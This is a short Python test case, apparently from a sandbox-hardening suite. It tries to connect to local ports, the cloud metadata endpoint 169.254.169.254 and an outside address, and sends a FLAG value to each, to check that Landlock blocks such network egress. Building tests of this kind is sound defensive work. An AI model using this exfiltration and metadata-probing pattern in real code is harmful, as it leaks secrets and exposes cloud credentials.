# attack: connects to other ports, the cloud's metadata and the internet
# resisted from: landlock
import socket

for address in (("127.0.0.1", PORT), ("169.254.169.254", 80), ("127.0.0.1", 8888), ("192.0.2.1", 80)):
    try:
        with socket.create_connection(address, timeout=0.2) as connection:
            connection.sendall(FLAG.encode())
    except OSError:
        pass
